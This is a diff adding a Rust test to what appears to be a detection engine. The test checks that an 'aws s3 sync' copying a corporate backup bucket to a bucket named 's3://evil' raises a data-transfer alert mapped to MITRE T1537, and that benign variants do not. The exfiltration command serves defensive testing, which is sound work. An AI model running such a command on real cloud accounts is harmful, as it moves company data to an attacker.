@@ -290,3 +290,21 @@ fn a_gap_between_read_and_exec_stands_on_the_alert() {
     let degraded: Vec<&str> = told.alert().degraded.iter().map(|kind| kind.as_str()).collect();
     assert_eq!(degraded, ["event-loss"]);
 }
+
+/// The command alone hands the data over; the same command for the company's own account, or one that only looks, does not.
+#[test]
+fn control_plane() {
+    let story = |args: &[&str]| {
+        let mut w = World::new();
+        let shell = w.launch(0.0, ZSH, &["-zsh"]);
+        let aws = adhoc("/opt/homebrew/bin/aws", "aws");
+        let child = w.fork(1.0, &shell);
+        w.exec(1.1, &child, aws, args);
+        w.tell()
+    };
+    let told = story(&["aws", "s3", "sync", "s3://corp-backup", "s3://evil", "--source-region", "eu-west-1"]);
+    assert_eq!(ids(told.one_of_any_confidence()), ["cw.transfer.control-plane"]);
+    assert_eq!(told.one_of_any_confidence().rules[0].techniques.as_slice(), ["T1537".into()]);
+    story(&["aws", "s3", "sync", "s3://evil", "s3://corp-backup"]).none();
+    story(&["aws", "s3", "ls", "s3://evil"]).none();
+}
